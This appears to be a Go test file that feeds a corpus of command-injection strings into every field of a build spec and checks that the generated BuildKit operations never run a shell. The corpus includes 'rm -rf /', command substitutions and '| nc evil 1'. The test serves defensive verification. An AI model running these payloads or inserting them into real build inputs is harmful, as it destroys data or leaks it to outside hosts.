package llbgen_test

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/moby/buildkit/client/llb"
	"github.com/moby/buildkit/solver/pb"

	"github.com/org/appbuild/internal/golden"
	"github.com/org/appbuild/internal/testfiles"
	"github.com/org/appbuild/llbgen"
	"github.com/org/appbuild/profiles"
	"github.com/org/appbuild/spec"
)

// injections are strings a hostile or careless spec might carry.
var injections = []string{
	"; rm -rf /",
	"$(touch /pwned)",
	"`touch /pwned`",
	"a\nRUN touch /pwned",
	`"; touch /pwned; echo "`,
	"' && touch /pwned && '",
	"${PATH}",
	"| nc evil 1",
	"./cmd/hello; touch /pwned",
	"--help",
}

// fields are where a spec string can reach an op, each a YAML line.
var fields = map[string]func(v string) string{
	"name":       func(v string) string { return "name: " + strconv.Quote(v) + "\nport: 8080\n" },
	"build":      func(v string) string { return "name: app\nbuild: " + strconv.Quote(v) + "\n" },
	"env":        func(v string) string { return "name: app\nenv:\n  X: " + strconv.Quote(v) + "\n" },
	"entrypoint": func(v string) string { return "name: app\nentrypoint: [" + strconv.Quote(v) + "]\n" },
	"cmd":        func(v string) string { return "name: app\ncmd: [" + strconv.Quote(v) + "]\n" },
	"test":       func(v string) string { return "name: app\ntest: [go, test, " + strconv.Quote(v) + "]\n" },
	"healthcheck.exec": func(v string) string {
		return "name: app\nhealthcheck:\n  exec: [/app/app, " + strconv.Quote(v) + "]\n"
	},
	"healthcheck.http": func(v string) string {
		return "name: app\nport: 8080\nhealthcheck:\n  http: " + strconv.Quote(v) + "\n"
	},
	"version": func(v string) string { return "name: app\nversion: " + strconv.Quote(v) + "\n" },
	"workdir": func(v string) string { return "name: app\nworkdir: " + strconv.Quote("/srv/"+v) + "\n" },
}

var shells = map[string]bool{"sh": true, "bash": true, "/bin/sh": true, "/bin/bash": true, "dash": true, "/bin/dash": true}

// TestInjectionCorpus puts every hostile string in every field. Each one is
// either refused by the parser, or reaches LLB only as one whole exec
// argument or environment value: no op runs a shell, so nothing in the
// string is ever interpreted. The table of which is which is golden.
func TestInjectionCorpus(t *testing.T) {
	var table strings.Builder
	for _, field := range sortedFieldNames() {
		for _, inj := range injections {
			src := "language: go\n" + fields[field](inj)
			s, err := spec.Parse("app.yaml", []byte(src))
			if err != nil {
				fmt.Fprintf(&table, "%-17s %-32q refused\n", field, inj)
				continue
			}
			for _, op := range execOps(t, s) {
				if shells[op.Meta.Args[0]] {
					t.Errorf("%s=%q: an op runs a shell: %q", field, inj, op.Meta.Args)
				}
				for _, a := range op.Meta.Args {
					if strings.Contains(a, inj) && a != inj && !strings.HasSuffix(a, "/"+inj) {
						t.Errorf("%s=%q: spliced into argument %q", field, inj, a)
					}
				}
			}
			fmt.Fprintf(&table, "%-17s %-32q inert (exec form only)\n", field, inj)
		}
	}
	golden.Check(t, "testdata/injection.txt", []byte(table.String()))
}

func sortedFieldNames() []string {
	names := make([]string, 0, len(fields))
	for k := range fields {
		names = append(names, k)
	}
	for i := range names {
		for j := i + 1; j < len(names); j++ {
			if names[j] < names[i] {
				names[i], names[j] = names[j], names[i]
			}
		}
	}
	return names
}

func execOps(t *testing.T, s *spec.Spec) []*pb.ExecOp {
	t.Helper()
	pl, err := profiles.Go{}.Plan(s, profiles.Env{BuildPlatform: amd64, TargetPlatform: arm64, Files: testfiles.Dir("../examples/go-hello")})
	if err != nil {
		return nil // a profile refusal is a refusal too
	}
	var ops []*pb.ExecOp
	for _, final := range []string{pl.Final, pl.Test} {
		pl.Final = final
		res, err := llbgen.Generate(context.Background(), pl, llbgen.Options{
			BuildPlatform: amd64, TargetPlatform: arm64,
			Context:  llb.Local("context", llb.LocalUniqueID("test")),
			Resolver: fakeResolver{},
		})
		if err != nil {
			t.Fatal(err)
		}
		def, err := res.State.Marshal(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		ops = append(ops, execs(t, def)...)
	}
	return ops
}
